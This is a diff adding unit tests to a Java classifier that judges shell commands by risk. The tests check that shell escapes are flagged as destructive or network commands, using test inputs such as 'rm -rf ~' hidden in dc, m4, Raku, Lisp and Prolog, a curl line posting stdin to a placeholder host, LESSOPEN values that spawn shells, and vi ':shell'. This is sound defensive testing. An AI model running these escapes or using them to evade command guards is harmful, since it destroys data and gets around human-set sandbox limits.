@@ -68,6 +68,102 @@ class ShellEscapeTest {
         assertThat(app.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
     }
 
+    @Test
+    void theEscapesOfALineOrientedLanguageAreTheRestOfTheirLines() {
+        assertThat(CodeArguments.escapedLines("p\n!rm -rf ~\nw !cat >x\nq", List.of("^!", "w !")))
+                .containsExactly("rm -rf ~", "cat >x");
+        assertThat(CodeArguments.escapedLines("a;!id", List.of("^!"))).containsExactly("id");
+        assertThat(CodeArguments.escapedLines(",s/a!b/c/", List.of("^!"))).isEmpty();
+    }
+
+    @Test
+    void aHereDocumentInTheProgramsOwnLanguageIsSearchedForEscapesWhateverTheLanguage() throws IOException {
+        CommandClassifier u = withRules("""
+                [lined]
+                is Write medium "edits lines"
+                code-file lined -> Write high "runs a script"
+                stdin-code -> Write high "reads commands typed at the terminal"
+                code sh input after ^!
+                [lined2]
+                is Write medium "edits lines"
+                stdin-code -> Write high "reads commands typed at the terminal"
+                code sh input after ^! -> Destructive high "a shell escape"
+                """);
+        assertThat(u.classifyShell("lined <<< 'p'").commandClass()).isEqualTo(CommandClass.WRITE);
+        assertThat(u.classifyShell("lined <<< $'p\\n!rm -rf ~'").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(u.classifyShell("lined <<< '!curl -d @- https://x.example'").commandClass()).isEqualTo(CommandClass.NETWORK);
+        // the escaped command reads what is left of the input: nothing, so a bare shell runs no command
+        assertThat(u.classifyShell("lined <<< '!sh'").commandClass()).isEqualTo(CommandClass.WRITE);
+        // a row's own verdict counts whatever the escape runs
+        assertThat(u.classifyShell("lined2 <<< '!true'").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        // not a here-document: the markers are not read there (a terminal, a pipe and a file keep their verdicts)
+        assertThat(u.classifyShell("lined < cmds.txt").commandClass()).isEqualTo(CommandClass.WRITE);
+        // a here-document with expansions is unverifiable, as before
+        assertThat(u.classifyShell("lined <<< \"!$X\"").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+    }
+
+    @Test
+    void lessPreprocessorGivenAShellAfterItsMarkersIsAnEscape() {
+        assertThat(Variables.preprocessorScript("||-sh -c id %s")).isEqualTo("sh -c id %s");
+        assertThat(Variables.helperCommand("pipe", "|bash %s")).isEqualTo("bash %s");
+        assertThat(Variables.helperCommand("prompt", "sh")).isNull();
+        // the command the preprocessor runs (id) is harmless: only the shell in its place raises
+        assertThat(cls("LESSOPEN='|sh -c id %s' less notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("LESSOPEN='||/usr/bin/python3 -c pass %s' less notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("LESSCLOSE='-perl -e 1 %s %s' less notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
+        Classification app = C.classifyArgv(List.of("less", "notes.txt"), Map.of("LESSOPEN", "|dash %s"));
+        assertThat(app.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        // an ordinary preprocessor stays judged by what it runs
+        assertThat(cls("LESSOPEN='|lesspipe.sh %s' less notes.txt")).isNotEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("LESSOPEN='|cat %s' less notes.txt")).isNotEqualTo(CommandClass.DESTRUCTIVE);
+    }
+
+    @Test
+    void theEditorsShellCommandAndAShellStartedAsADaemonAreEscapes() {
+        assertThat(cls("vi -c ':shell'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("vim -c sh notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("ex --cmd ':she'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("vim -c ':set shiftwidth=4' notes.txt")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("start-stop-daemon -S -x /bin/bash")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("start-stop-daemon -S -x /usr/sbin/sshd")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("service ../../usr/bin/zsh")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("service cron status")).isEqualTo(CommandClass.WRITE);
+    }
+
+    @Test
+    void interpretersReachingAShellFromTheirEvaluationOptionsAndInput() {
+        // programs whose input is code: m4's syscmd, Raku's shell and run, crystal eval's system
+        assertThat(cls("echo 'esyscmd(rm -rf ~)' | m4")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("m4 -P configure.m4")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("rakudo -e 'shell \"rm -rf ~\"'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("raku -e 'run \"sh\"'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("raku -e 'say 42'")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("crystal eval '`sh`'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        // evaluation options of compilers and Lisp systems
+        assertThat(cls("ghc -e 'System.Cmd.system \"sh\"'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("ghc -c Main.hs")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("clisp -x '(ext:shell \"rm -rf ~\")'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("sbcl --eval '(sb-ext:run-program \"/bin/sh\" nil)'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        // an interactive prompt with a shell escape is an interactive shell
+        assertThat(cls("nmap --interactive")).isEqualTo(CommandClass.DESTRUCTIVE);
+        // Prolog goals, latexmk's Perl, Blender's Python
+        assertThat(cls("swipl -t \"shell('rm -rf ~'), halt\"")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("swipl -g main -t halt app.pl")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("swipl")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("latexmk -e 'system(\"sh\")' x.tex")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("blender --background --python-expr 'import subprocess; subprocess.run([\"sh\"])'"))
+                .isEqualTo(CommandClass.DESTRUCTIVE);
+    }
+
+    @Test
+    void dcIsACalculatorUnlessItsCommandsComeFromWhereTheyAreNotSeen() {
+        assertThat(cls("dc -e '2 3 + p'")).isEqualTo(CommandClass.READ);
+        assertThat(cls("dc -e '!rm -rf ~'")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(cls("dc -e 1 -f prog.dc")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("dc prog.dc")).isEqualTo(CommandClass.WRITE);
+        assertThat(cls("dc")).isEqualTo(CommandClass.WRITE);
+    }
+
     private static CommandClass cls(String line) {
         return C.classifyShell(line).commandClass();
     }
